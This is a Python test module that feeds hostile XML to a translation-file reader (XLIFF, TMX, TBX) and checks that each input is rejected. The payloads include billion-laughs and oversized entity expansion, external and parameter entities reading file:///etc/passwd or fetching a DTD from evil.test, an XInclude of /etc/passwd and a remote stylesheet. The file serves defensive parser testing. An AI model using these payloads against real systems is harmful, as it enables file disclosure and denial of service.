"""XML that translators' tools could send: entities, depth, lies about its encoding."""

from tests.helpers.golden import GOLDEN
from tests.hostile.case import ACCEPTED, Case, case, directory, file, pipe, sparse

EXCHANGE = GOLDEN / "exchange"
LAUGHS = (
    '<!DOCTYPE {root} [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">'
        for before, name in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]>"
)
_BLOWN_UP = '<!DOCTYPE {root} [<!ENTITY a "' + "x" * 100_000 + '">]>'
_FILE = '<!DOCTYPE {root} [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
_PARAMETER = '<!DOCTYPE {root} [<!ENTITY % a SYSTEM "http://evil.test/x.dtd"> %a;]>'
_EXTERNAL = '<!DOCTYPE {root} SYSTEM "http://evil.test/x.dtd">'
_KINDS = (
    ("xliff2", "units", "a.xlf", "xliff", (EXCHANGE / "small-xliff2.xlf").read_text("utf-8")),
    ("xliff", "units", "a.xlf", "xliff", (EXCHANGE / "small-xliff.xlf").read_text("utf-8")),
    ("tmx", "memory", "a.tmx", "tmx", (EXCHANGE / "small.tmx").read_text("utf-8")),
    ("tbx", "glossary", "a.tbx", "martif", (EXCHANGE / "glossary.tbx").read_text("utf-8")),
)


def _with_type(text: str, root: str, declared: str) -> str:
    """The file with another document type, its entity used."""
    start = text.index(f"<{root}")
    used = declared.format(root=root) if "{root}" in declared else declared
    body = text[start:]
    end = body.rindex(f"</{root}>")
    use = "" if declared in (_EXTERNAL, _PARAMETER) else "&a;" * 500
    return f'<?xml version="1.0"?>\n{used}\n{body[:end]}{use}</{root}>'


def _inside(text: str, root: str, more: str) -> str:
    end = text.rindex(f"</{root}>")
    return text[:end] + more + text[end:]


def _xml(kind: str, reader: str, name: str, root: str, text: str) -> tuple[Case, ...]:
    external_passes = kind in ("tmx", "tbx")
    return (
        *(
            case(
                f"{kind}-{which}",
                reader,
                file(name, _with_type(text, root, declared)),
                "doctype",
                name,
                "line 2",
                "document type",
            )
            for which, declared in (
                ("laughs", LAUGHS.replace("{root}", root)),
                ("blown-up", _BLOWN_UP),
                ("file-entity", _FILE),
                ("parameter-entity", _PARAMETER),
            )
        ),
        case(
            f"{kind}-external-type",
            reader,
            file(name, _with_type(text, root, _EXTERNAL)),
            ACCEPTED if external_passes else "doctype",
        ),
        case(
            f"{kind}-deep",
            reader,
            file(name, _inside(text, root, "<x>" * 5_000 + "</x>" * 5_000)),
            "xml",
            name,
            "nested far too deeply",
        ),
        case(f"{kind}-cut", reader, file(name, text[:-20]), "xml", name, "line"),
        case(
            f"{kind}-control-character",
            reader,
            file(name, _inside(text, root, "\x07")),
            "xml",
            name,
            "line",
        ),
        case(
            f"{kind}-entity-unknown",
            reader,
            file(name, _inside(text, root, "&nobody;")),
            # With a type that is not read, nobody can know that it was not declared there.
            *((ACCEPTED,) if kind == "tmx" else ("xml", name, "line")),
        ),
        case(
            f"{kind}-encoding-unknown",
            reader,
            file(name, text.replace("UTF-8", "EVIL-8", 1)),
            "xml",
            name,
            "encoding",
        ),
        case(
            f"{kind}-many-attributes",
            reader,
            file(
                name,
                _inside(text, root, "<x " + " ".join(f"a{n}=''" for n in range(200_000)) + "/>"),
            ),
        ),
        case(
            f"{kind}-many-spaces",
            reader,
            file(name, _inside(text, root, "<x>" + " " * 5_000_000 + "</x>")),
        ),
        case(
            f"{kind}-many-prefixes",
            reader,
            file(
                name,
                _inside(
                    text, root, "<x " + " ".join(f"xmlns:a{n}='u{n}'" for n in range(20_000)) + "/>"
                ),
            ),
        ),
        case(
            f"{kind}-includes-file",
            reader,
            file(
                name,
                _inside(
                    text,
                    root,
                    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
                ),
            ),
        ),
        case(
            f"{kind}-stylesheet",
            reader,
            file(name, text.replace("?>", '?><?xml-stylesheet href="http://evil.test/x.xsl"?>', 1)),
        ),
        case(
            f"{kind}-long-text",
            reader,
            file(name, _inside(text, root, f"<x>{'x' * 11_000_000}</x>")),
            "xml",
            name,
            "far too long",
        ),
        case(f"{kind}-huge", reader, sparse(name, 1 << 40), "file_too_large", name, needs="links")
        if kind != "xliff"
        else case("xliff-huge", reader, sparse(name, 1 << 40), "file_too_large", name),
    )


XML = tuple(each for kind in _KINDS for each in _xml(*kind))
MORE_XML = (
    case(
        "xml-another-root",
        "units",
        file("a.xlf", "<html/>"),
        "wrong_root",
        "a.xlf, line 1",
        "<html>",
    ),
    case("xml-not-xml", "units", file("a.xlf", "hello"), "xml", "a.xlf, line 1"),
    case("xml-empty", "units", file("a.xlf", ""), "xml", "a.xlf"),
    case(
        "xml-utf7",
        "units",
        file("a.xlf", '<?xml version="1.0" encoding="UTF-7"?>+ADw-xliff+AD4-'),
        "xml",
        "a.xlf",
    ),
    case("xml-pipe", "memory", pipe("a.tmx"), "not_a_file", "a.tmx", needs="pipes"),
    case("xml-folder", "memory", directory("a.tmx"), "not_a_file", "a.tmx"),
    case("xml-nobody", "memory", lambda folder: folder / "none.tmx", "unreadable", "none.tmx"),
)


CASES = (*XML, *MORE_XML)
